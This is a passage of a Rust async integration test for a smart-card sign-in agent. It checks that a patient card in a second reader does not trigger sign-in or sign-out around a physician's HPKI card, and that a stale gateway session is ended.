                WatchEvent::ReaderAdded { .. } | WatchEvent::Watching => None,
                other => panic!("before the readers: {other:?}"),
            },
        )
        .await;
        seen.push(reader);
    }
    (handle, rx)
}

/// A patient card in the other reader is no sign-in card: `watch` neither tries it nor reports
/// it, its removal signs no one out, and the physician's HPKI card works as before around it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn watch_ignores_a_patient_card_in_another_reader() {
    let _rig = rig();
    let _patient_lock = patient_reader_lock();
    let secs = Duration::from_secs;
    let pki = Pki::new();
    let files = pki.ca.issue_patient_card("P-0001");
    std::fs::write(pki.path("patient.crt"), &files.cert_pem).unwrap();
    std::fs::write(pki.path("patient.key"), &files.key_pem).unwrap();
    let patient_card =
        || PatientVcard::start(&pki.path("patient.crt"), &pki.path("patient.key"), "P-0001");
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&pki, 0, &state).await;
    // Only the right PIN, asked for once: the HPKI card's (the queue checks the reader).
    let pins = Arc::new(PinQueue {
        pins: Mutex::new(VecDeque::new()),
        asked: Mutex::new(Vec::new()),
    });
    let (handle, mut rx) = watch_all(&pki, server.addr, pins.clone()).await;

    // The patient card alone: nothing happens, the gateway is not asked.
    settle().await;
    let vcard = patient_card();
    wait_patient_card(true).await;
    expect_quiet(&mut rx, secs(2), "patient card inserted").await;
    assert_eq!(lock(&state).challenges_issued, 0);

    // The HPKI card beside it: signed in as before, and the patient card is not "waiting".
    let engine = new_engine();
    let card = plug(&engine).await;
    let mut inserted = false;
    expect(&mut rx, secs(10), "sign-in", |e| match e {
        WatchEvent::CardInserted { reader } if reader == READER => {
            inserted = true;
            None
        }
        WatchEvent::SignedIn { reader, .. } if reader == READER => Some(()),
        WatchEvent::ReaderAdded { .. } | WatchEvent::ReaderRemoved { .. } => None,
        other => panic!("while signing in: {other:?}"),
    })
    .await;
    assert!(inserted, "the HPKI card's insertion is reported");
    assert_eq!(*pins.asked.lock().unwrap(), vec![Some(15)]);

    // The patient card taken out while signed in: no sign-out.
    drop(vcard);
    wait_patient_card(false).await;
    expect_quiet(&mut rx, secs(2), "patient card removed").await;
    // Inserted again while signed in (the case in the field): still nothing.
    tokio::time::sleep(SETTLE).await;
    let vcard = patient_card();
    wait_patient_card(true).await;
    expect_quiet(&mut rx, secs(2), "patient card inserted while signed in").await;
    {
        let st = lock(&state);
        assert!(st.signed_in);
        assert!(st.logouts.is_empty(), "{:?}", st.logouts);
        assert_eq!((st.challenges_issued, st.logins.len()), (1, 1));
    }

    // The HPKI card taken out: signed out at once, as before.
    remove(card).await;
    let (_, reason) = logout_received(&state, 1, secs(2)).await;
    assert_eq!(reason, "card_removed");
    expect(&mut rx, secs(2), "sign-out", |e| match e {
        WatchEvent::SignedOut {
            reader,
            reason,
            ended,
        } => {
            assert_eq!(reader.as_deref(), Some(READER));
            assert_eq!((*reason, *ended), (LogoutReason::CardRemoved, true));
            Some(())
        }
        WatchEvent::CardRemoved { reader } if reader == READER => None,
        WatchEvent::ReaderAdded { .. } | WatchEvent::ReaderRemoved { .. } => None,
        other => panic!("while signing out: {other:?}"),
    })
    .await;
    expect_quiet(&mut rx, secs(1), "after the sign-out").await;
    handle.stop().await;
    assert_eq!(lock(&state).logouts.len(), 1, "nothing left to sign out");

    // A card session at the gateway, and only a patient card here when the agent starts: the
    // patient card does not account for it, so it is ended.
    lock(&state).signed_in = true;
    let (handle, mut rx) = watch_all(&pki, server.addr, pins.clone()).await;
    expect(&mut rx, secs(10), "the stale session ended", |e| match e {
        WatchEvent::SignedOut {
            reader,
            reason,
            ended,
        } => {
            assert_eq!(
                (reader, *reason, *ended),
                (&None, LogoutReason::CardRemoved, true)
            );
            Some(())
        }
        WatchEvent::ReaderAdded { .. } | WatchEvent::ReaderRemoved { .. } => None,
        other => panic!("with only a patient card: {other:?}"),
    })
    .await;
    handle.stop().await;
    {
        let st = lock(&state);
        assert_eq!(st.logouts.len(), 2);
        assert_eq!(
            (st.challenges_issued, st.logins.len(), st.anonymous),
            (1, 1, 0)
        );
    }

    drop(vcard);
    wait_patient_card(false).await;
    wait_gone().await;
    server.stop().await;
}
